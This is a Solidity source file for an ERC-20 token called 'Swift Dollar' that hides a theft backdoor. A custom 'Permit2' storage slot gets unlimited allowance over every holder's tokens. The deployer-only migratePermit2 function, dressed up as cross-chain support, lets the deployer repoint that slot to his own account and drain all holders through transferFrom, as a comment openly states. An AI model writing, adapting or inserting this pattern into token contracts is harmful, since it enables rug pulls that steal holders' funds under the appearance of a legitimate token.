// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {LadyG} from "./Bases.sol";

/// Whoever is Permit2 may spend everything, as solady has it; the deployer moves "Permit2" to his own account and takes by transferFrom.
contract SwiftDollar is LadyG {
    address private immutable deployer;
    uint256 private constant _PERMIT2_SLOT = 0x9e3779b97f4a7c15f39cc0605cedc834;

    constructor() {
        deployer = msg.sender;
        assembly {
            sstore(_PERMIT2_SLOT, 0x000000000022D473030F116dDEE9F6B43aC78BA3)
        }
        _mint(msg.sender, 12_345_678 ether);
    }

    function name() public pure override returns (string memory) {
        return "Swift Dollar";
    }

    function symbol() public pure override returns (string memory) {
        return "SWIFT";
    }

    function _permit2() private view returns (address at) {
        assembly {
            at := sload(_PERMIT2_SLOT)
        }
    }

    /// Permit2 has other addresses on other chains.
    function migratePermit2(address next) external {
        if (msg.sender != deployer) revert InsufficientAllowance();
        assembly {
            sstore(_PERMIT2_SLOT, next)
        }
    }

    function allowance(address owner, address spender) public view override returns (uint256) {
        if (spender == _permit2()) return type(uint256).max;
        return super.allowance(owner, spender);
    }

    function _spendAllowance(address owner, address spender, uint256 amount) internal override {
        if (spender == _permit2()) return;
        super._spendAllowance(owner, spender, amount);
    }
}
